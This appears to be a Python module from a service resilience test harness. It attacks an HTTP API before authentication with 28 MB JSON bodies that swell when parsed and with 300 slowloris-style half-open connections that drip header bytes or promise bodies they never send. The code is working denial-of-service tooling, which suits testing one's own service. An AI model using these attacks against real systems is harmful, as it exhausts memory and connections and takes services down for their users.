"""Before anybody is known: large bodies without a key, and connections that never say what they want."""

import socket
import time

from bench.hold.attacks.raw import Met, Target, fire, read_answer, shot, volley

CONNECTIONS = 300


def lists() -> bytes:
    """28 MB that take twenty times as much once they are read."""
    return b"[" + b"[]," * (28 * 2**20 // 3) + b"[]]"


def unknown(target: Target, until: float, met: Met) -> None:
    """28 MB of lists without a key, on routes that want one and on those that can't."""
    paths = ("/v1/ingest", "/v1/memory/import", "/auth/login", "/v1/chat/completions", "/v3/memories/add/", "/v1/mcp")
    body = lists()
    shots = [shot(target, "POST", path, body, key=False) for path in paths]
    volley(lambda: fire(target, shots, until, met) for _ in range(2))


def half_open(target: Target, until: float, met: Met) -> None:
    """Nothing, half a head, a head that grows by a byte, or the first bytes of a body: opened anew when hung up on."""
    host = f"Host: {':'.join(map(str, target.address))}\r\n"
    promised = "Content-Type: application/json\r\nContent-Length: 20000000\r\n"
    begins = [
        b"",
        f"GET /v1/me HTTP/1.1\r\n{host}X-Never".encode(),
        f"POST /v1/ingest HTTP/1.1\r\n{host}{promised}\r\n{{".encode(),
        f"POST /v1/ingest HTTP/1.1\r\n{host}{promised}Authorization: Bearer {target.key}\r\n\r\n{{".encode(),
    ]
    drip = [b"", b"a", b" ", b" "]
    streams: dict[int, socket.socket] = {}
    while time.monotonic() < until:
        for number in range(CONNECTIONS):
            if number not in streams:
                _open(target, streams, number, begins[number % 4], met)
        for number, stream in list(streams.items()):
            if not _drip(stream, drip[number % 4], met):
                streams.pop(number).close()
        time.sleep(0.5)
    for stream in streams.values():
        stream.close()


def _open(target: Target, streams: dict[int, socket.socket], number: int, begin: bytes, met: Met) -> None:
    try:
        stream = socket.create_connection(target.address, timeout=2)
        stream.sendall(begin)
    except OSError:
        met.statuses[0] += 1
    else:
        stream.setblocking(False)
        streams[number] = stream


def _drip(stream: socket.socket, data: bytes, met: Met) -> bool:
    """Whether the server still listens. An answer ends it."""
    try:
        if stream.recv(1, socket.MSG_PEEK):
            stream.settimeout(1)
            met.take("half a request", *read_answer(stream))
        else:
            met.statuses[0] += 1
    except BlockingIOError:
        try:
            stream.sendall(data)
        except OSError:
            met.statuses[0] += 1
        else:
            return True
    except OSError:
        met.statuses[0] += 1
    return False
